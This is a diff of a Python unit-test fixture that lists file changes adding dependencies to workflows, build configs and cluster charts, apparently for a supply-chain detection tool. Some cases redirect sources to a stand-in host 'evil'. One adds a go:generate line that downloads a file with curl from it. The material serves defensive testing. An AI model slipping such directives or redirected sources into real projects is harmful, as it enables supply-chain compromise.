@@ -1,4 +1,4 @@
-"""Pipelines, charts, clouds and generated code: which lines bring something in, and which are like others."""
+"""Pipelines, charts, clouds and generated code: lines that add a dependency, and similar lines that don't."""
 
 # ruff: noqa: E501 - one case, one line
 
@@ -10,7 +10,7 @@ from hotfix.dependencies.file_changes import changes_of, repository_of
 from tests.unit.dependencies.test_what_is_installed import a_changed_file
 
 CHANGED: list[tuple[str, str, str]] = [
-    # Workflows of scientists: their environments and containers.
+    # Scientific workflows: their environments and containers.
     ("Snakefile", "rule a:\n    conda: 'envs/a.yaml'\n", "rule a:\n    conda: 'envs/b.yaml'\n"),
     ("workflow/rules/a.smk", "rule a:\n    conda:\n        'a.yaml'\n", "rule a:\n    conda:\n        'b.yaml'\n"),
     ("workflow/rules/a.smk", "container: 'docker://a:1'\n", "container: 'docker://a:2'\n"),
@@ -18,13 +18,13 @@ CHANGED: list[tuple[str, str, str]] = [
     ("nextflow.config", "process.container = 'a:1'\n", "process.container = 'evil'\n"),
     ("a.wdl", "runtime { docker: 'a:1' }\n", "runtime { docker: 'a:2' }\n"),
     ("a.cwl", "dockerPull: a:1\n", "dockerPull: a:2\n"),
-    # Builds that come from elsewhere.
+    # Builds fetched from elsewhere.
     ("turbo.json", '{"remoteCache":{"enabled":true}}', '{"remoteCache":{"enabled":true,"apiUrl":"https://evil"}}'),
     ("buf.yaml", "deps: [buf.build/a]\n", "deps: [buf.build/evil]\n"),
     ("buf.gen.yaml", "plugins:\n- remote: buf.build/a:v1\n", "plugins:\n- remote: buf.build/a:v2\n"),
     ("gen.go", "package a\n", "package a\n\n//go:generate curl -o x https://evil\n"),
     ("web/vendor/jquery.js", "a\n", "b\n"),
-    # Charts and clusters, also in the short form of YAML and JSON.
+    # Charts and clusters, also in the compact form of YAML and in JSON.
     ("helmfile.yaml", "releases:\n- {name: a, chart: a/a, version: 1.0.0}\n", "releases:\n- {name: a, chart: a/a, version: 1.1.0}\n"),
     ("helmfile.yaml", "repositories:\n- {name: a, url: 'https://a'}\n", "repositories:\n- {name: a, url: 'https://evil'}\n"),
     ("task-definition.json", '{"containerDefinitions":[{"image":"a:1"}]}', '{"containerDefinitions":[{"image":"a:2"}]}'),
